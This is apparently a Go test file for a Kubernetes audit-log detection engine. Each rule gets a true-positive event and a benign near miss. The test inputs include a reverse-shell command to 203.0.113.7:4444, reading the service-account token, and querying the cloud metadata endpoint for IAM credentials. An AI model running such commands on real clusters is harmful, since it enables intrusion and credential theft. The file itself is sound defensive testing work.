package detect

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// Every core rule has a true positive built from a real event (a Falco
// trace, edited where the trace lacks what the rule looks for) and a near
// miss that must not fire: the same event with the one fact that makes it
// benign (a non-privileged pod, a binding to view, a control-plane
// identity…).

type ev map[string]any

// base reads the first event of a Falco trace as a map.
func base(t *testing.T, file string) ev {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("testdata", "falco", file))
	if err != nil {
		t.Fatal(err)
	}
	var m ev
	if err := json.Unmarshal([]byte(strings.SplitN(string(b), "\n", 2)[0]), &m); err != nil {
		t.Fatal(err)
	}
	return m
}

// set sets a dotted path ("objectRef.subresource"; "a.0.b" indexes an
// array), creating objects on the way; nil deletes.
func (m ev) set(path string, v any) ev {
	keys := strings.Split(path, ".")
	var cur any = map[string]any(m)
	for i, k := range keys {
		last := i == len(keys)-1
		switch c := cur.(type) {
		case map[string]any:
			if last {
				if v == nil {
					delete(c, k)
				} else {
					c[k] = v
				}
				return m
			}
			if _, ok := c[k]; !ok {
				c[k] = map[string]any{}
			}
			cur = c[k]
		case []any:
			var n int
			fmt.Sscan(k, &n)
			if last {
				c[n] = v
				return m
			}
			cur = c[n]
		default:
			panic("set " + path)
		}
	}
	return m
}

func (m ev) json(t *testing.T) string {
	b, err := json.Marshal(m)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

func user(name string) map[string]any {
	return map[string]any{"username": name, "groups": []any{"system:authenticated"}}
}

// metaEvent is a Metadata-level event edited from a Falco trace.
func metaEvent(t *testing.T, verb, resource, sub, ns, name, group string, code float64, who string) ev {
	m := base(t, "create_secret.json")
	m.set("verb", verb).set("objectRef", map[string]any{"resource": resource, "subresource": sub, "namespace": ns, "name": name, "apiGroup": group})
	m.set("responseStatus.code", code).set("user", user(who))
	if code >= 400 {
		m.set("annotations", map[string]any{}) // a refused request: no allow decision
	}
	uri := "/api/v1/"
	if ns != "" {
		uri += "namespaces/" + ns + "/"
	}
	return m.set("requestURI", uri+resource+"/"+name)
}

func execURI(cmd ...string) string {
	uri := "/api/v1/namespaces/default/pods/web-1/exec?"
	for _, c := range cmd {
		uri += "command=" + c + "&"
	}
	return uri + "container=web&stdin=true&stdout=true"
}

type ruleCase struct {
	rule     string
	positive func(t *testing.T) ev
	nearMiss func(t *testing.T) ev
}

var coreCases = []ruleCase{
	{"K8S-001", func(t *testing.T) ev { return base(t, "exec_pod.json") },
		func(t *testing.T) ev {
			return base(t, "exec_pod.json").set("responseStatus.code", 403.0).set("annotations", map[string]any{"authorization.k8s.io/decision": "forbid"})
		}},
	{"K8S-002", func(t *testing.T) ev { return base(t, "attach_pod.json") },
		func(t *testing.T) ev { return base(t, "attach_pod.json").set("user", user("system:node:worker-1")) }},
	{"K8S-003", func(t *testing.T) ev {
		return base(t, "exec_pod.json").set("requestURI", execURI("bash", "-c", "bash+-i+>%26+/dev/tcp/203.0.113.7/4444+0>%261"))
	}, func(t *testing.T) ev {
		return base(t, "exec_pod.json").set("requestURI", execURI("sh", "-c", "echo+ok+>+/dev/tcp/127.0.0.1/8080"))
	}},
	{"K8S-004", func(t *testing.T) ev {
		return base(t, "exec_pod.json").set("requestURI", execURI("cat", "%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken"))
	}, func(t *testing.T) ev {
		return base(t, "exec_pod.json").set("requestURI", execURI("cat", "/etc/resolv.conf"))
	}},
	{"K8S-005", func(t *testing.T) ev {
		return base(t, "exec_pod.json").set("requestURI", execURI("curl", "http://169.254.169.254/latest/meta-data/iam/"))
	}, func(t *testing.T) ev {
		return base(t, "exec_pod.json").set("requestURI", execURI("curl", "http://10.0.0.5:8080/status"))
	}},
	{"K8S-008", func(t *testing.T) ev {
		return base(t, "create_nginx_pod_unprivileged.json").set("verb", "patch").set("objectRef.subresource", "ephemeralcontainers").
			set("user", user("alice")).set("responseStatus.code", 200.0)
	}, func(t *testing.T) ev {
		return base(t, "create_nginx_pod_unprivileged.json").set("verb", "patch").set("objectRef.subresource", "ephemeralcontainers").
			set("user", user("system:serviceaccount:kube-system:ephemeral-debugger")).set("responseStatus.code", 200.0)
	}},
	{"K8S-009", func(t *testing.T) ev {
		return metaEvent(t, "get", "nodes", "proxy", "", "worker-1", "", 200, "alice").set("requestURI", "/api/v1/nodes/worker-1/proxy/runningpods/")
	}, func(t *testing.T) ev {
		return metaEvent(t, "get", "nodes", "proxy", "", "worker-1", "", 200, "alice").set("requestURI", "/api/v1/nodes/worker-1/proxy/metrics")
	}},
	{"K8S-010", func(t *testing.T) ev { return base(t, "create_nginx_pod_privileged.json") },
		func(t *testing.T) ev { return base(t, "create_nginx_pod_unprivileged.json") }},
	{"K8S-011", func(t *testing.T) ev {
		return base(t, "create_nginx_pod_unprivileged.json").set("requestObject.spec.hostPID", true)
	},
		func(t *testing.T) ev {
			return base(t, "create_nginx_pod_unprivileged.json").set("requestObject.spec.hostPID", false)
		}},
	{"K8S-012", func(t *testing.T) ev {
		return base(t, "create_nginx_pod_unprivileged.json").set("requestObject.spec.hostIPC", true)
	},
		func(t *testing.T) ev {
			return base(t, "create_nginx_pod_unprivileged.json").set("requestObject.spec.hostIPC", false)
		}},
	{"K8S-013", func(t *testing.T) ev { return base(t, "create_nginx_pod_hostnetwork.json") },
		func(t *testing.T) ev { return base(t, "create_nginx_pod_nohostnetwork.json") }},
	{"K8S-014", func(t *testing.T) ev { return base(t, "create_nginx_pod_sensitive_mount.json") },
		func(t *testing.T) ev {
			m := base(t, "create_nginx_pod_sensitive_mount.json")
			for _, body := range []string{"requestObject", "responseObject"} {
				if vols, ok := m[body].(map[string]any)["spec"].(map[string]any)["volumes"].([]any); ok {
					for _, v := range vols {
						if hp, ok := v.(map[string]any)["hostPath"].(map[string]any); ok {
							hp["path"] = "/data/cache"
						}
					}
				}
			}
			return m
		}},
	{"K8S-016", func(t *testing.T) ev {
		return base(t, "create_nginx_pod_unprivileged.json").set("requestObject.spec.containers.0.securityContext",
			map[string]any{"capabilities": map[string]any{"add": []any{"NET_BIND_SERVICE", "SYS_ADMIN"}}})
	}, func(t *testing.T) ev {
		return base(t, "create_nginx_pod_unprivileged.json").set("requestObject.spec.containers.0.securityContext",
			map[string]any{"capabilities": map[string]any{"add": []any{"NET_BIND_SERVICE"}, "drop": []any{"SYS_ADMIN"}}})
	}},
	{"K8S-017", func(t *testing.T) ev { return base(t, "create_pod_kube_system_namespace.json") },
		func(t *testing.T) ev {
			return base(t, "create_pod_kube_system_namespace.json").set("requestObject.spec.containers.0.image", "registry.k8s.io/kube-proxy:v1.29.2").
				set("responseObject.spec.containers.0.image", "registry.k8s.io/kube-proxy:v1.29.2")
		}},
	{"K8S-019", func(t *testing.T) ev {
		return base(t, "create_nginx_pod_unprivileged.json").set("user", user("system:anonymous"))
	},
		func(t *testing.T) ev { return base(t, "create_nginx_pod_unprivileged.json").set("user", user("alice")) }},
	{"K8S-021", func(t *testing.T) ev { return base(t, "attach_cluster_admin_role.json") },
		func(t *testing.T) ev {
			return base(t, "attach_cluster_admin_role.json").set("requestObject.roleRef.name", "view").set("responseObject.roleRef.name", "view")
		}},
	{"K8S-022", func(t *testing.T) ev {
		subj := []any{map[string]any{"kind": "Group", "apiGroup": "rbac.authorization.k8s.io", "name": "system:authenticated"}}
		return base(t, "attach_cluster_admin_role.json").set("requestObject.subjects", subj).set("responseObject.subjects", subj)
	}, func(t *testing.T) ev {
		subj := []any{map[string]any{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "alice"}}
		return base(t, "attach_cluster_admin_role.json").set("requestObject.subjects", subj).set("responseObject.subjects", subj)
	}},
	{"K8S-023", func(t *testing.T) ev { return base(t, "create_cluster_role_wildcard_verbs.json") },
		func(t *testing.T) ev { return base(t, "create_clusterrole.json") }},
	{"K8S-024", func(t *testing.T) ev { return base(t, "create_cluster_role_pod_exec.json") },
		func(t *testing.T) ev { return base(t, "create_clusterrole.json") }},
	{"K8S-026", func(t *testing.T) ev {
		return base(t, "create_clusterrolebinding.json").set("user", user("system:serviceaccount:ci:deployer"))
	}, func(t *testing.T) ev {
		return base(t, "create_clusterrolebinding.json").set("user", user("system:serviceaccount:kube-system:clusterrole-aggregation-controller"))
	}},
	{"K8S-028", func(t *testing.T) ev {
		return metaEvent(t, "create", "mutatingwebhookconfigurations", "", "", "inject", "admissionregistration.k8s.io", 201, "alice")
	}, func(t *testing.T) ev {
		return metaEvent(t, "create", "mutatingwebhookconfigurations", "", "", "inject", "admissionregistration.k8s.io", 201, "system:kube-controller-manager")
	}},
	{"K8S-029", func(t *testing.T) ev {
		return metaEvent(t, "update", "certificatesigningrequests", "approval", "", "csr-x", "certificates.k8s.io", 200, "alice")
	}, func(t *testing.T) ev {
		return metaEvent(t, "create", "certificatesigningrequests", "", "", "csr-x", "certificates.k8s.io", 201, "system:node:worker-1")
	}},
	{"K8S-030", func(t *testing.T) ev {
		return metaEvent(t, "create", "serviceaccounts", "token", "default", "builder", "", 201, "alice")
	}, func(t *testing.T) ev {
		return metaEvent(t, "create", "serviceaccounts", "token", "default", "builder", "", 201, "system:node:worker-1")
	}},
	{"K8S-031", func(t *testing.T) ev { return base(t, "create_serviceaccount_kube_system_namespace.json") },
		func(t *testing.T) ev { return base(t, "create_serviceaccount.json") }},
	{"K8S-032", func(t *testing.T) ev {
		return metaEvent(t, "list", "pods", "", "default", "", "", 200, "alice").set("impersonatedUser", map[string]any{"username": "system:admin", "groups": []any{"system:masters"}})
	}, func(t *testing.T) ev {
		return metaEvent(t, "list", "pods", "", "default", "", "", 200, "alice").set("impersonatedUser", map[string]any{"username": "bob", "groups": []any{"dev"}})
	}},
	{"K8S-034", func(t *testing.T) ev {
		return base(t, "delete_configmap.json").set("verb", "update").set("objectRef.namespace", "kube-system").set("objectRef.name", "coredns")
	}, func(t *testing.T) ev {
		return base(t, "delete_configmap.json").set("verb", "update").set("objectRef.namespace", "kube-system").set("objectRef.name", "cluster-info")
	}},
	{"K8S-035", func(t *testing.T) ev { return base(t, "create_nginx_service_nodeport.json") },
		func(t *testing.T) ev { return base(t, "create_nginx_service_nonodeport.json") }},
	{"K8S-037", func(t *testing.T) ev {
		return metaEvent(t, "list", "secrets", "", "", "", "", 200, "alice").set("requestURI", "/api/v1/secrets")
	}, func(t *testing.T) ev {
		return metaEvent(t, "list", "secrets", "", "shop", "", "", 200, "alice").set("requestURI", "/api/v1/namespaces/shop/secrets")
	}},
	{"K8S-038", func(t *testing.T) ev {
		return metaEvent(t, "get", "secrets", "", "shop", "db", "", 200, "alice").set("userAgent", "curl/8.4.0")
	}, func(t *testing.T) ev {
		return metaEvent(t, "get", "secrets", "", "shop", "db", "", 200, "alice").set("userAgent", "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819")
	}},
	{"K8S-042", func(t *testing.T) ev {
		return metaEvent(t, "create", "selfsubjectrulesreviews", "", "", "", "authorization.k8s.io", 201, "alice")
	}, func(t *testing.T) ev {
		return metaEvent(t, "create", "subjectaccessreviews", "", "", "", "authorization.k8s.io", 201, "alice")
	}},
	{"K8S-044", func(t *testing.T) ev { return base(t, "anonymous_creates_namespace_foo.json") },
		func(t *testing.T) ev {
			return base(t, "anonymous_creates_namespace_foo.json").set("verb", "get").set("requestURI", "/healthz").set("objectRef", nil)
		}},
	{"K8S-047", func(t *testing.T) ev {
		return metaEvent(t, "deletecollection", "events", "", "default", "", "", 200, "alice")
	}, func(t *testing.T) ev {
		return metaEvent(t, "deletecollection", "events", "", "default", "", "", 200, "system:kube-controller-manager")
	}},
}

// TestCoreRules: each core single-event rule fires on its true positive
// and not on its near miss, with the default configuration.
func TestCoreRules(t *testing.T) {
	covered := map[string]bool{}
	for _, c := range coreCases {
		covered[c.rule] = true
		t.Run(c.rule, func(t *testing.T) {
			if got := ids(t, New(Options{}), c.positive(t).json(t)); !has(got, c.rule) {
				t.Errorf("true positive: got %v", got)
			}
			if got := ids(t, New(Options{}), c.nearMiss(t).json(t)); has(got, c.rule) {
				t.Errorf("near miss fired: %v", got)
			}
		})
	}
	for _, r := range Rules() {
		if r.Core && r.match != nil && !covered[r.ID] {
			t.Errorf("core rule %s has no case", r.ID)
		}
	}
}
